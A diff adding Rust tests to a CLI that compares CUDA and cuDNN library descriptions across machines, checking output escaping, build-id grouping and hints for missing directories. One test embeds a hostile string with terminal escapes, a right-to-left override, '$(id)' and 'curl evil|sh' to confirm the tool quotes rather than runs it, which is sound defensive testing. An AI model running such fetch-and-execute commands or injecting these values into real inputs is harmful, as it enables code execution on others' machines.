@@ -160,3 +160,60 @@ fn a_program_of_another_c_library_than_nvidias_does_not_work() {
     nodes.put("n1.toml", &musl("['libz.so.1']"));
     nodes.fleet(&[]).stdout_contains(&["works on 1 of 1 machine"]).check();
 }
+
+#[test]
+fn text_of_a_description_is_shown_and_is_no_command() {
+    let named = |line: &str| good("9.19.0").replace(&format!("'{APP}'"), &format!("\"{line}\""));
+    let hostile = r"app \u001b[31m --x\u202e $(id); curl evil|sh";
+    let nodes = Nodes::new(&[
+        ("n1", named(hostile).replace("/usr/bin/app", "/usr/bin/other")),
+        ("n2", named(hostile)),
+    ]);
+    for options in [&[][..], &["--markdown"]] {
+        let page = nodes.fleet(options).status(1).any_stdout().check();
+        assert!(!page.contains(['\u{1b}', '\u{202e}']) && page.contains(r"u{202e}"), "{page:?}");
+        assert!(page.contains("'$(id);' curl 'evil|sh'"), "the words of the next command are quoted: {page}");
+    }
+    // The control: a usual command line is not changed.
+    nodes.put("n1.toml", &good("9.19.0").replace("/usr/bin/app", "/usr/bin/other"));
+    nodes.put("n2.toml", &good("9.19.0"));
+    nodes.fleet(&[]).status(1).stdout_contains(&["n1.toml explain app --serve\n"]).check();
+    // No machine can have such a name.
+    for name in ["n\u{1b}[31m3", "n4\n", "n 5", "ä"] {
+        nodes.put(&format!("{name}.toml"), &good("9.19.0"));
+    }
+    let page = nodes.fleet(&[]).status(2).any_stdout().check();
+    assert!(
+        !page.contains('\u{1b}') && page.contains("works on 1 of 2 machines; not read: 4 descriptions"),
+        "{page:?}"
+    );
+    nodes.fleet(&["--bad"]).status(2).stdout("n1\n").any_stderr().check();
+}
+
+#[test]
+fn groups_that_differ_in_builds_alone_are_told_apart() {
+    let built = |id: &str| {
+        let built = format!("soname = 'libcudnn.so.9', build_id = '{id}',");
+        good("9.19.0").replace("soname = 'libcudnn.so.9',", &built)
+    };
+    let nodes = Nodes::new(&[("n1", built("aa")), ("n2", built("aa")), ("n3", built("bb"))]);
+    nodes.fleet(&[]).stdout_contains(&["n3  other builds of cuDNN than 2 of 3 have"]).check();
+    nodes.put("n3.toml", &(built("aa") + &text("/etc/other", "x")));
+    nodes.fleet(&[]).stdout_contains(&["n3  other files, with equal versions"]).check();
+}
+
+#[test]
+fn a_place_without_descriptions_leads_to_the_command_that_writes_them() {
+    let nodes = Nodes::new(&[]);
+    let said =
+        ["no description of a machine was read", "next: cudarun doctor --save-in DIR, on each machine"];
+    nodes.fleet(&[]).status(2).stdout_contains(&said).check();
+    let absent = nodes.path("absent.d");
+    Run::new(["fleet", "--bad", absent.to_str().unwrap()]).status(2).any_stderr().check();
+    let hint = format!("mkdir -p {}", absent.display());
+    Run::new(["doctor", "--save-in", absent.to_str().unwrap()]).status(2).stderr_contains(&[&hint]).check();
+    nodes.put("n1.toml", &good("9.19.0").replace(&format!("'{APP}'"), ""));
+    let lock = nodes.path("x.lock");
+    let run = nodes.fleet(&["--lock", lock.to_str().unwrap()]).status(2);
+    run.stderr_contains(&["--lock needs exactly one program, and the descriptions name none"]).check();
+}
